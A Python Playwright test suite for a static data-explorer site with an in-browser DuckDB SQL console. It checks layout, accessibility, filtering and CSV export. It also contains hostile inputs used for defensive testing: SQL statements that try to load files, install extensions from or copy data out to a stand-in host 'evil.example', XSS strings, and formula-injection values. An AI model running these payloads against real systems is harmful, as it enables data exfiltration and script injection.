"""The built site in a real browser: Chromium from the system, with every other host unreachable."""

from __future__ import annotations

import csv
import io
import json
import shutil
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlsplit

import duckdb
import polars as pl
import pytest

from tests.support import made_release, synthetic

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
playwright = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
pytestmark = [
    pytest.mark.slow,
    pytest.mark.timeout(300),
    pytest.mark.skipif(CHROMIUM is None, reason="there is no chromium on this machine"),
]
FLAGS = (
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1",
)
OLD, NEW = "2026-11-20.0", synthetic.VERSION
PROJECTS = 400
PAGES = (
    "index.html",
    "explore.html",
    "countries/index.html",
    "countries/ind.html",
    "organisations/index.html",
    "organisations/nvidia.html",
    "charts/index.html",
    "charts/countries.html",
    "charts/growth.html",
    "charts/top-commitments.html",
    "charts/vendor-matrix.html",
    "charts/capacity.html",
    "sql.html",
    "data.html",
    "dictionary.html",
    "method.html",
    "changes.html",
    "cite.html?record=ind-x#report",
    "releases/index.html",
    f"releases/{OLD}/index.html",
)
RULES = ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa", "best-practice"]
HOSTILE_SQL = (
    "SELECT * FROM read_csv_auto('https://evil.example/x.csv')",
    "SELECT * FROM read_parquet('http://evil.example/x.parquet')",
    "INSTALL httpfs FROM 'http://evil.example/'",
    "LOAD 'http://evil.example/httpfs'",
    "SET enable_external_access=true",
    "SET custom_extension_repository='http://evil.example'",
    "ATTACH 'http://evil.example/a.db'",
    "COPY projects TO 'http://evil.example/x.csv'",
    "SELECT * FROM 's3://evil/x.parquet'",
)


class Handler(SimpleHTTPRequestHandler):
    """Serves the site as plain hosts do, modules with their type."""

    extensions_map = SimpleHTTPRequestHandler.extensions_map | {".mjs": "text/javascript"}

    def log_message(self, format: str, *args: object) -> None:
        pass


@dataclass
class Served:
    """A site on a local address, and the release behind it."""

    folder: Path
    release: Path
    url: str


@dataclass
class Watched:
    """A page, with what its browser asked for and complained about."""

    page: Any
    requests: list[str] = field(default_factory=list)
    complaints: list[str] = field(default_factory=list)

    def outside(self, home: str) -> list[str]:
        return [
            url for url in self.requests if urlsplit(url).scheme not in ("blob", "data") and not url.startswith(home)
        ]


def has_assets() -> bool:
    from warehouse.site import assets
    from warehouse.site.errors import AssetsMissing

    if assets.find() is None:
        try:
            assets.install()
        except AssetsMissing:
            return False
    return True


@contextmanager
def serving(folder: Path) -> Iterator[str]:
    """The address of a folder served on this machine while the block runs."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), partial(Handler, directory=str(folder)))
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}/"
    finally:
        server.shutdown()
        server.server_close()


def made(base: Path, projects: int) -> tuple[Path, Path]:
    """A site of made-up projects with an older release, and its release folder."""
    from warehouse.site.build import build

    older = made_release.plain(base / OLD, projects - 1, version=OLD)
    changes = [("projects", "x", "removed", "*", None, None, "source_gone", None)]
    release = made_release.plain(base / NEW, projects, parent=OLD, changes=changes)
    has_assets()
    build(release, base / "out", older=[older])
    return base / "out", release


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    folder, release = made(tmp_path_factory.mktemp("browser"), PROJECTS)
    with serving(folder) as url:
        yield Served(folder, release, url)


@pytest.fixture(scope="module")
def small(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    """Every kind of page with few rows: the accessibility checker looks at each cell."""
    folder, release = made(tmp_path_factory.mktemp("small"), 14)
    with serving(folder) as url:
        yield Served(folder, release, url)


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with playwright.sync_playwright() as driver:
        started = driver.chromium.launch(executable_path=CHROMIUM, args=list(FLAGS))
        yield started
        started.close()


def watch(context: Any) -> Watched:
    watched = Watched(context.new_page())
    context.on("request", lambda request: watched.requests.append(request.url))
    watched.page.on(
        "console",
        lambda message: watched.complaints.append(message.text) if message.type in ("error", "warning") else None,
    )
    watched.page.on("pageerror", lambda error: watched.complaints.append(str(error)))
    return watched


@pytest.fixture
def watched(browser: Any) -> Iterator[Watched]:
    context = browser.new_context(viewport={"width": 1280, "height": 900}, accept_downloads=True)
    yield watch(context)
    context.close()


@pytest.fixture(scope="module")
def needs_engine() -> None:
    if not has_assets():
        pytest.skip("the front-end assets are not here and npm cannot fetch them")


def counter(page: Any) -> str:
    return str(page.locator("#counter").inner_text())


def shown_ids(page: Any) -> list[str]:
    return list(
        page.eval_on_selector_all(
            "#projects tbody tr", "rows => rows.filter(row => !row.hidden).map(row => row.dataset.id)"
        )
    )


@pytest.mark.parametrize("path", PAGES)
def test_page_stays_on_its_host_and_fits_a_phone(served: Served, browser: Any, path: str) -> None:
    for width, scheme in ((1280, "light"), (390, "dark")):
        context = browser.new_context(viewport={"width": width, "height": 844}, color_scheme=scheme)
        watched = watch(context)
        watched.page.goto(served.url + path)
        assert watched.outside(served.url) == [] and watched.complaints == []
        wide = watched.page.evaluate("document.documentElement.scrollWidth")
        assert wide <= width, f"{path} is {wide} wide at {width}"
        assert not [url for url in watched.requests if "/engine-" in url], "the engine is only for Run"
        context.close()


def test_accessibility_checker_finds_nothing(small: Served, browser: Any, needs_engine: None) -> None:
    from warehouse.site import assets

    found = assets.find()
    assert found is not None
    checker = found.path(assets.CHECKER).read_text(encoding="utf-8")
    code = pl.read_parquet(small.release / "projects.parquet")["country_iso3"][0].lower()
    project = sorted((small.folder / "projects").glob("*.html"))[3].name
    paths = [path for path in PAGES if path not in ("countries/ind.html", "organisations/nvidia.html")]
    organisation = next((small.folder / "organisations").glob("[!i]*.html")).name
    paths += [f"projects/{project}", f"countries/{code}.html", f"organisations/{organisation}"]
    in_the_dark = ["index.html", "explore.html", "sql.html", "charts/growth.html", *paths[-3:]]
    problems = []
    for width, scheme, chosen in ((1280, "light", paths), (1280, "dark", in_the_dark), (390, "light", paths[:2])):
        context = browser.new_context(viewport={"width": width, "height": 900}, color_scheme=scheme, bypass_csp=True)
        page = context.new_page()
        for path in chosen:
            page.goto(small.url + path)
            page.evaluate(checker)
            result = page.evaluate(f"axe.run(document, {{runOnly: {RULES}}})")
            problems += [
                f"{path} {width} {scheme}: {item['id']}: {item['nodes'][0]['html'][:120]}"
                for item in result["violations"]
            ]
        context.close()
    assert problems == []


def test_without_scripts_every_row_chart_and_map_is_there(served: Served, browser: Any) -> None:
    context = browser.new_context(java_script_enabled=False, viewport={"width": 1280, "height": 900})
    page = context.new_page()
    page.goto(served.url + "explore.html")
    assert page.locator("#projects tbody tr:visible").count() == PROJECTS
    assert page.locator("#filters").is_hidden()
    for path in sorted((served.folder / "charts").glob("*.html")):
        if path.name == "index.html":
            continue
        page.goto(f"{served.url}charts/{path.name}")
        assert page.locator("figure.chart svg:visible").count() >= 1, path.name
        assert page.locator("#rows ~ .scroller tbody tr:visible").count() >= 1, path.name
    page.goto(served.url + "index.html")
    assert page.locator("figure.chart svg:visible").count() == 3
    page.goto(served.url + "sql.html")
    assert page.locator(".query code:visible").count() >= 12
    context.close()


def test_map_switch_works_without_scripts(served: Served, browser: Any, needs_engine: None) -> None:
    context = browser.new_context(java_script_enabled=False, viewport={"width": 1280, "height": 1200})
    page = context.new_page()
    page.goto(served.url + "index.html")
    assert page.locator(".legend.g-a").is_visible() and not page.locator(".legend.g-d").is_visible()
    india = page.locator('.world a[href="countries/ind.html"]')
    before = india.evaluate("node => getComputedStyle(node).fill")
    page.locator("label.l-g").click()
    assert page.locator(".legend.g-g").is_visible() and not page.locator(".legend.g-a").is_visible()
    page.locator("label.l-d").click()
    assert page.locator(".legend.g-d").is_visible()
    assert before.startswith("rgb") and "projects" in india.locator("title").text_content()
    context.close()


def test_search_facets_sort_and_address_round_trip(served: Served, watched: Watched) -> None:
    page = watched.page
    page.goto(served.url + "explore.html")
    assert counter(page) == f"{PROJECTS} of {PROJECTS} records"
    page.locator("#q").fill("india model")
    table = pl.read_parquet(served.release / "projects.parquet")
    words = table.filter(pl.col("country_iso3") == "IND", pl.col("kind") == "model")["project_id"]
    assert set(words) <= set(shown_ids(page))
    page.locator("#q").fill("")
    page.locator("#facets summary", has_text="Kind").click()
    page.locator("#facet-kind input[value=model]").check()
    page.locator("#facet-kind input[value=data]").check()
    expected = table.filter(pl.col("kind").is_in(["model", "data"]))
    assert counter(page) == f"{expected.height} of {PROJECTS} records"
    page.keyboard.press("Escape")
    page.locator("#facets summary", has_text="Country").click()
    page.locator("#facet-country input[value=IND]").check()
    expected = expected.filter(pl.col("country_iso3") == "IND")
    assert set(shown_ids(page)) == set(expected["project_id"])
    page.keyboard.press("Escape")
    page.locator("th[data-key=announced_on] button").click()
    assert page.locator("th[data-key=announced_on]").get_attribute("aria-sort") == "ascending"
    order = shown_ids(page)
    dates = dict(table.select("project_id", "announced_on").rows())
    assert [dates[key] for key in order] == sorted(dates[key] for key in order)
    address = page.url
    assert "kind=model" in address and "country=IND" in address and "sort=announced_on" in address
    page.goto("about:blank")
    page.goto(address)
    assert shown_ids(page) == order
    assert page.locator("#chips button").count() == 3
    page.locator("#clear").click()
    assert counter(page) == f"{PROJECTS} of {PROJECTS} records"
    assert watched.complaints == []


def test_sort_by_money_puts_blanks_last_both_ways(served: Served, watched: Watched) -> None:
    page = watched.page
    page.goto(served.url + "explore.html")
    for _ in range(2):
        page.locator("th[data-key=announced_usd] button").click()
        cells = page.eval_on_selector_all(
            "#projects tbody tr", "rows => rows.filter(row => !row.hidden).map(row => row.cells[5].dataset.v || '')"
        )
        known = [float(cell) for cell in cells if cell]
        assert all(cells[: len(known)]) and known
        downwards = page.locator("th[data-key=announced_usd]").get_attribute("aria-sort") == "descending"
        assert known == sorted(known, reverse=downwards)


def test_csv_of_the_view_is_the_view(served: Served, watched: Watched) -> None:
    page = watched.page
    page.goto(served.url + "explore.html?kind=data&sort=-committed_usd")
    shown = shown_ids(page)
    with page.expect_download() as waiting:
        page.locator("#csv").click()
    text = Path(waiting.value.path()).read_text(encoding="utf-8")
    rows = list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))
    assert [row["project_id"] for row in rows] == shown and shown
    sums = pl.read_parquet(served.release / "commitments.parquet").filter(
        pl.col("counts_in_totals") & (pl.col("stage") == "committed")
    )
    for row in rows:
        own = sums.filter(pl.col("project_id") == row["project_id"])
        if own.height:
            assert float(row["committed_usd"]) == pytest.approx(own["usd_high"].sum())
        else:
            assert row["committed_usd"] in ("", "in a larger sum")


def test_hostile_names_and_formulas_stay_text_in_page_and_csv(browser: Any, tmp_path: Path) -> None:
    from warehouse.site.build import build

    build(made_release.hostile(tmp_path / NEW), tmp_path / "out", assets=tmp_path)
    context = browser.new_context(viewport={"width": 390, "height": 844}, accept_downloads=True)
    watched = watch(context)
    page = watched.page
    page.on("dialog", lambda dialog: watched.complaints.append(f"dialog {dialog.message}"))
    with serving(tmp_path / "out") as home:
        projects = sorted((tmp_path / "out" / "projects").glob("*.html"))[:10]
        for path in (
            "index.html",
            "explore.html?q=%3Cscript%3E&kind=%22%3E%3Cimg%20src%3Dx%3E",
            "changes.html",
            *(f"projects/{path.name}" for path in projects),
        ):
            page.goto(home + path)
            assert page.evaluate("document.documentElement.scrollWidth") <= 390, path
        page.goto(home + "explore.html")
        with page.expect_download() as waiting:
            page.locator("#csv").click()
        text = Path(waiting.value.path()).read_text(encoding="utf-8")
        for row in csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")):
            assert not any(cell.startswith(("=", "+", "@", "-", "\t", "\r")) for cell in row), row
        assert watched.outside(home) == [] and watched.complaints == []
    context.close()


def run(page: Any, sql: str) -> None:
    page.locator("#statement").fill(sql)
    page.locator("#run").click()
    page.locator('#console[data-done="yes"]').wait_for(timeout=60_000)


def result_json(page: Any) -> list[dict[str, Any]]:
    with page.expect_download() as waiting:
        page.locator("#result-json").click()
    loaded: list[dict[str, Any]] = json.loads(Path(waiting.value.path()).read_text(encoding="utf-8"))
    return loaded


def test_saved_queries_give_the_rows_of_duckdb_in_python(served: Served, watched: Watched, needs_engine: None) -> None:
    from warehouse.site.charts import saved_queries

    page = watched.page
    page.goto(served.url + "sql.html")
    assert not [url for url in watched.requests if "/engine-" in url]
    with duckdb.connect() as connection:
        for path in served.release.glob("*.parquet"):
            connection.execute(f"CREATE TABLE \"{path.stem}\" AS FROM '{path}'")
        for query in saved_queries():
            run(page, query.sql)
            assert page.locator("#failure").is_hidden(), (query.slug, page.locator("#failure").inner_text())
            cursor = connection.execute(query.sql)
            columns = [item[0] for item in cursor.description]
            expected = cursor.fetchall()
            rows = result_json(page)
            assert len(rows) == len(expected), query.slug
            for row, wanted in zip(rows, expected, strict=True):
                assert list(row) == columns, query.slug
                for value, want in zip(row.values(), wanted, strict=True):
                    assert value == (pytest.approx(want) if isinstance(want, float) else want), (
                        query.slug,
                        row,
                        wanted,
                    )
    assert [url for url in watched.requests if "/engine-" in url]
    assert watched.outside(served.url) == [] and watched.complaints == []


def test_hostile_sql_reaches_nothing_and_the_console_lives_on(
    served: Served, watched: Watched, needs_engine: None
) -> None:
    page = watched.page
    page.goto(served.url + "sql.html")
    run(page, "SELECT count(*) AS n FROM 'projects.parquet'")
    assert result_json(page) == [{"n": PROJECTS}]
    for sql in HOSTILE_SQL:
        run(page, sql)
        assert page.locator("#failure").is_visible(), sql
        assert page.locator("#result table").count() == 0, sql
    run(page, "SELECT '<img src=x onerror=alert(1)>' AS x, '=1+1' AS y")
    assert page.locator("#result img").count() == 0
    assert result_json(page) == [{"x": "<img src=x onerror=alert(1)>", "y": "=1+1"}]
    with page.expect_download() as waiting:
        page.locator("#result-csv").click()
    assert "'=1+1" in Path(waiting.value.path()).read_text(encoding="utf-8")
    assert watched.outside(served.url) == []


def test_console_of_an_old_release_asks_the_files_of_that_release(
    small: Served, watched: Watched, needs_engine: None
) -> None:
    page = watched.page
    page.goto(f"{small.url}releases/{OLD}/sql.html")
    run(page, "SELECT count(*) AS n FROM projects")
    assert result_json(page) == [{"n": 13}]
    asked = [url for url in watched.requests if url.endswith(".parquet")]
    assert asked and all(f"/releases/{OLD}/data/" in url for url in asked)


def test_link_with_a_query_fills_the_box_but_runs_nothing(served: Served, watched: Watched) -> None:
    page = watched.page
    page.goto(served.url + "sql.html?q=" + quote('SELECT 1 AS "<b>"'))
    if page.locator("#console").count() == 0:
        pytest.skip("the front-end assets are not here")
    assert page.locator("#statement").input_value() == 'SELECT 1 AS "<b>"'
    page.wait_for_load_state("networkidle")
    assert not [url for url in watched.requests if "/engine-" in url]
    page.goto(served.url + "charts/kinds.html")
    page.get_by_role("link", name="Open in the console").click()
    assert "FROM projects" in page.locator("#statement").input_value()
    page.goto(served.url + "explore.html?country=IND&kind=model")
    page.locator("#as-sql").click()
    assert "country_iso3 IN ('IND')" in page.locator("#statement").input_value()


def test_running_query_can_be_stopped_and_the_next_one_works(
    served: Served, watched: Watched, needs_engine: None
) -> None:
    page = watched.page
    page.goto(served.url + "sql.html")
    run(page, "SELECT 1 AS one")
    page.locator("#statement").fill(
        "SELECT count(*) FROM evidence a, evidence b, evidence c, evidence d WHERE a.quote > b.quote"
    )
    page.locator("#run").click()
    page.locator("#stop").click()
    page.locator('#console[data-done="yes"]').wait_for()
    run(page, "SELECT 2 AS two")
    assert result_json(page) == [{"two": 2}]


def test_table_is_usable_within_a_second(served: Served, watched: Watched) -> None:
    page = watched.page
    page.goto(served.url + "explore.html")
    page.locator("#counter", has_text=f"{PROJECTS} of {PROJECTS}").wait_for()
    ready = page.evaluate("performance.getEntriesByType('navigation')[0].domContentLoadedEventEnd")
    assert ready < 3000, "a second on a quiet machine; three on a busy one"


def test_table_of_several_parts_is_read_whole_when_filtered(
    browser: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from warehouse.site.build import build

    monkeypatch.setattr("warehouse.site.indexes.ROWS_A_PART", 20)
    build(made_release.plain(tmp_path / NEW, 50), tmp_path / "out", assets=tmp_path)
    context = browser.new_context()
    watched = watch(context)
    with serving(tmp_path / "out") as home:
        watched.page.goto(home + "explore.html?programme=no")
        table = pl.read_parquet(tmp_path / NEW / "projects.parquet").filter(pl.col("kind") != "programme")
        watched.page.locator("#counter", has_text=f"{table.height} of 50 records").wait_for()
        assert set(shown_ids(watched.page)) == set(table["project_id"])
        assert watched.complaints == []
    context.close()


def test_filters_work_from_the_disk_without_a_server(served: Served, watched: Watched) -> None:
    page = watched.page
    page.goto((served.folder / "explore.html").as_uri())
    page.locator("#q").fill("kenya")
    assert "of 400 records" in counter(page) and not counter(page).startswith("400")
